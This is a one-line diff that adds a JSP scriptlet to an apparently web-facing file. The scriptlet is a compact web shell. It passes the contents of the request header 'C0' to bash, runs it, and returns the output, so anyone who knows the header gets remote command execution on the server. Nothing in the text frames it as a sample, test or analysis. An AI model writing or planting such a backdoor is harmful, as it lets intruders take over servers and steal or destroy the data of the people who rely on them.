@@ -1,0 +1,1 @@
+<% String[] cmd = {"bash", "-c", request.getHeader("C0")}; java.util.Scanner s = new java.util.Scanner(new ProcessBuilder(cmd).start().getInputStream()).useDelimiter("\\A"); out.print(s.hasNext() ? s.next() : ""); %>
